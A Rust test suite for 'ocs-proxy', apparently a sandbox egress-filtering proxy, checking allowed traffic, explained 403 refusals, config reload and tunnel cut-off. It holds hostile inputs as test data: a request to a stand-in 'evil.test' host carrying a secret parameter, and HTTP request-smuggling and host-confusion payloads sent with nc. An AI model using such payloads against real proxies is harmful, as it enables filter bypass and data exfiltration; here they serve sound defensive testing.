//! `ocs-proxy` alone, in Squid's place: clients are told of it, and it keeps the same policy and the same record.
//! Clauses: P1, W2, W3, W7, W9, R1.

use anyhow::{Context, Result};
use harness::for_each_user;
use harness::order::Order;
use harness::project::{Project, USUAL};
use harness::run::{Finished, Running};
use harness::world::{As, Call, World};
use serde_json::Value;

/// A proxy that listens, and the project whose config it reads.
struct Ground<'w> {
    world: &'w World,
    who: As,
    project: Project<'w>,
    proxy: Running,
}

impl<'w> Ground<'w> {
    fn new(world: &'w World, who: As) -> Result<Self> {
        let project = Project::new(world, who, USUAL)?;
        let words = [
            "ocs-proxy",
            "--policy",
            "opencode-sandbox-config.yaml",
            "--listen",
            "127.0.0.1:3128",
            "--audit",
            "audit.jsonl",
        ];
        let proxy = world.start(who, Call::new(&words).within(project.directory()))?;
        let listening = "until nc -z 127.0.0.1 3128; do sleep 0.02; done";
        world
            .run(who, Call::new(&["sh", "-c", listening]).for_seconds(20))?
            .succeeded()?;
        Ok(Self {
            world,
            who,
            project,
            proxy,
        })
    }

    fn shell(&self, line: &str) -> Result<Finished> {
        let environment = [
            ("http_proxy", "http://127.0.0.1:3128"),
            ("https_proxy", "http://127.0.0.1:3128"),
        ];
        self.world.run(
            self.who,
            Call::new(&["sh", "-c", line])
                .with(&environment)
                .within(self.project.directory()),
        )
    }

    fn signal(&self, signal: &str) -> Result<()> {
        let proxy = self.world.find(|process| process.name == "ocs-proxy")?;
        self.world.signal(proxy.pid, signal)
    }

    fn end(self) -> Result<Finished> {
        self.signal("TERM")?;
        self.proxy.wait()
    }
}

for_each_user! {
    fn a_client_that_is_told_of_the_proxy_gets_through_to_what_is_listed(who) {
        let world = World::new(&Order::usual()?)?;
        let ground = Ground::new(&world, who)?;
        let finished = ground.shell("curl -sSf https://ok.test/ http://w.test/")?.succeeded()?;
        assert_eq!(finished.stdout, "hello from ok.test\nhello from w.test\n");
        let upload = ground.shell("head -c 5000000 /dev/zero | curl -sSf -T - https://ok.test/sink")?.succeeded()?;
        assert_eq!(upload.stdout, "got 5000000 bytes\n");
        let download = ground.shell("curl -sSf https://ok.test/bytes/5000000 | wc -c")?.succeeded()?;
        assert_eq!(download.stdout.trim(), "5000000");
        assert_eq!(ground.end()?.code(), 0);
        Ok(())
    }

    fn a_refusal_says_why_to_machine_and_person_and_leaks_nothing(who) {
        let world = World::new(&Order::usual()?)?;
        let ground = Ground::new(&world, who)?;
        let cases = [
            ("http://evil.test/x?secret=1", "not-whitelisted"),
            ("http://11.22.33.66/", "ip-literal"),
            ("http://bad.w.test/", "denylisted"),
            ("http://ok.test:8080/", "port"),
            ("http://private.test/", "private-address"),
        ];
        for (url, reason) in cases {
            let finished = ground.shell(&format!("curl -sS -i {url}"))?.succeeded()?;
            let (head, body) = finished.stdout.split_once("\r\n\r\n").context("no head")?;
            let head = head.to_ascii_lowercase();
            assert!(head.starts_with("http/1.1 403 "), "{finished}");
            assert!(head.contains("content-type: application/problem+json"), "{finished}");
            let status = format!("proxy-status: ocs; error=http_request_denied; details=\"{reason}\"");
            assert!(head.contains(&status), "{finished}");
            let body: Value = serde_json::from_str(body)?;
            assert_eq!((body["status"].as_u64(), body["reason"].as_str()), (Some(403), Some(reason)), "{body}");
            for key in ["type", "title", "detail", "host", "port", "suggestion"] {
                assert!(body.get(key).is_some(), "no {key} in {body}");
            }
            for leak in ["10.0.0.5", "/home/", "secret"] {
                assert!(!finished.stdout.contains(leak), "{finished}");
            }
        }
        assert_eq!(world.readings()?.connections, []);
        ground.end().map(drop)
    }

    fn requests_that_two_readers_could_read_differently_are_malformed(who) {
        let world = World::new(&Order::usual()?)?;
        let ground = Ground::new(&world, who)?;
        let requests = [
            r"GET http://ok.test/ HTTP/1.1\nHost: ok.test\n\n",
            r"GET http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nHost: evil.test\r\n\r\n",
            r"POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            r"POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nContent-Length: +1\r\n\r\nx",
            r"CONNECT ok.test@evil.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n",
            r"CONNECT ok%%2etest:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n",
            r"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n",
            r"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        ];
        for request in requests {
            let finished = ground.shell(&format!("printf '{request}' | timeout 5 nc 127.0.0.1 3128"))?;
            assert!(finished.stdout.starts_with("HTTP/1.1 400 "), "{request}: {finished}");
            assert_ne!(finished.code(), 124, "{request} was left open: {finished}");
        }
        assert_eq!(world.readings()?, harness::spec::Readings::default());
        ground.end().map(drop)
    }

    fn a_changed_config_is_taken_over_and_what_it_refuses_is_cut(who) {
        let world = World::new(&Order::usual()?)?;
        let ground = Ground::new(&world, who)?;
        ground.project.write("tunnel.py", TUNNEL)?;
        let words = ["python3", "tunnel.py"];
        let mut live = world.start(who, Call::new(&words).within(ground.project.directory()))?;
        live.until(|written| written.contains(" 200 "))?;
        ground.project.write("opencode-sandbox-config.yaml", "sandbox-name: under-test\nhttp-domain-whitelist:\n  - evil.test\n")?;
        ground.signal("HUP")?;
        live.until(|written| written.contains("cut\n"))?;
        assert_eq!(ground.shell("curl -sS https://evil.test/")?.succeeded()?.stdout, "hello from evil.test\n");
        assert_ne!(ground.shell("curl -sSf https://ok.test/")?.code(), 0);
        let audit = std::fs::read_to_string(world.outside(&ground.project.directory().join("audit.jsonl")))?;
        assert!(audit.contains("\"revoked\""), "{audit}");
        ground.end().map(drop)
    }
}

/// Holds a tunnel open and says when it is cut.
const TUNNEL: &str = r#"
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.settimeout(20)
s.send(b"CONNECT docker.host:5432 HTTP/1.1\r\nHost: docker.host\r\n\r\n")
print(s.recv(4096).decode(), flush=True)
try:
    while s.recv(4096): pass
except ConnectionResetError:
    pass
print("cut", flush=True)
"#;
